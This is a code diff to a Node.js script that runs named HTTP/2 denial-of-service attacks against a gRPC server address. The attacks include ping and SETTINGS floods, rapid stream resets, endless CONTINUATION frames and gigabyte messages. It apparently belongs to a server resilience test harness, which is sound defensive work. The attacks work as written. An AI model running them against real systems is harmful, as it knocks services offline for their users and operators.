@@ -49,23 +49,23 @@ const hello = (settings = Buffer.alloc(0)) =>
 const noWindow = hello(setting(4, 0));
 
 /** A connection that minds nothing. It reads, unless told otherwise. */
-function connect(bytes, {reads = true} = {}) {
-  const [host, port] = workerData.address.split(':');
+function connectTo(address, bytes, {reads = true} = {}) {
+  const [host, port] = address.split(':');
   const socket = net.connect({host, port: Number(port)});
   socket.on('error', () => {});
   if (reads) socket.resume();
   if (bytes) socket.write(bytes);
   return socket;
 }
+const connect = (bytes, options) => connectTo(workerData.address, bytes, options);
 const connected = socket => new Promise(resolve => socket.once('connect', resolve).once('close', resolve));
 const connectMany = (count, bytes, options) => Array.from({length: count}, () => connect(bytes, options));
 
-/** Sends `piece` again and again, as fast as it is taken, for as long as the attack lasts. */
-function pour(socket, piece) {
+/** Sends what `next` gives again and again, as fast as it is taken, for as long as the attack lasts; and reads meanwhile. */
+function pour(socket, next) {
   const more = () => {
-    while (!socket.destroyed && socket.write(piece));
+    if (!socket.destroyed) socket.write(next(), () => setImmediate(more));
   };
-  socket.on('drain', more);
   socket.on('connect', more);
 }
 
@@ -74,7 +74,8 @@ const indexed = Buffer.concat([Buffer.from([0x40]), header('x', 'y').subarray(1)
 /** After `first`, `piece` again and again. */
 const headersWithoutEnd = (connections, piece, first = indexed) => connectMany(connections, hello()).forEach(socket => {
   socket.write(frame(HEADERS, 0, 1, Buffer.concat([rpcHeaders(checkHealth), first])));
-  pour(socket, frame(CONTINUATION, 0, 1, piece));
+  const more = Buffer.concat(Array(8).fill(frame(CONTINUATION, 0, 1, piece)));
+  pour(socket, () => more);
 });
 
 /** By name; each goes on for as long as the thread lives. */
@@ -90,24 +91,30 @@ const attacks = {
     };
     for (let i = 0; i < 20; ++i) again();
   },
-  'pings': () => connectMany(10, hello()).forEach(socket => pour(socket, Buffer.concat(Array(500).fill(frame(PING, 0, 0, Buffer.alloc(8)))))),
-  'settings, their answers unread': () => connectMany(10, hello(), {reads: false}).forEach(
-      socket => pour(socket, Buffer.concat(Array(500).fill(frame(SETTINGS, 0, 0, setting(4, 65535)))))),
+  'pings': () => {
+    const pings = Buffer.concat(Array(1000).fill(frame(PING, 0, 0, Buffer.alloc(8))));
+    connectMany(10, hello()).forEach(socket => pour(socket, () => pings));
+  },
+  'pings at once, from ever new connections': () => {
+    const pings = Buffer.concat([hello(), ...Array(7000).fill(frame(PING, 0, 0, Buffer.alloc(8)))]);
+    const again = () => connect(pings).once('close', () => setImmediate(again));
+    for (let i = 0; i < 10; ++i) again();
+  },
+  'settings, their answers unread': () => {
+    const settings = Buffer.concat(Array(500).fill(frame(SETTINGS, 0, 0, setting(4, 65535))));
+    connectMany(10, hello(), {reads: false}).forEach(socket => pour(socket, () => settings));
+  },
   'streams reset as soon as they are open': () => connectMany(10, hello()).forEach(socket => {
     let stream = 1;
     const block = rpcHeaders(checkHealth);
     const cancel = Buffer.from([0, 0, 0, 8]);
-    const more = () => {
-      for (let room = true; room && !socket.destroyed && stream < 2 ** 31;) {
-        const burst = [];
-        for (let i = 0; i < 100; ++i, stream += 2) {
-          burst.push(frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, cancel));
-        }
-        room = socket.write(Buffer.concat(burst));
+    pour(socket, () => {
+      const burst = [];
+      for (let i = 0; i < 500; ++i, stream += 2) {
+        burst.push(frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, cancel));
       }
-    };
-    socket.on('drain', more);
-    socket.on('connect', more);
+      return Buffer.concat(burst);
+    });
   }),
   'headers without end': () => headersWithoutEnd(1, manyHeaders),
   'headers without end, on many connections': () => headersWithoutEnd(16, manyHeaders),
@@ -125,11 +132,12 @@ const attacks = {
   'messages of a gigabyte': () => connectMany(20, hello()).forEach(socket => {
     socket.write(frame(HEADERS, END_HEADERS, 1, rpcHeaders(checkHealth)));
     socket.write(frame(DATA, 0, 1, messageHead(1 << 30)));
-    pour(socket, frame(DATA, 0, 1, Buffer.alloc(16000)));
+    const data = frame(DATA, 0, 1, Buffer.alloc(16000));
+    pour(socket, () => data);
   }),
 };
 
-module.exports = {attacks: Object.keys(attacks)};
+module.exports = {attacks: Object.keys(attacks), connectTo, hello};
 if (!isMainThread) {
   attacks[workerData.attack]();
   parentPort.postMessage('begun');
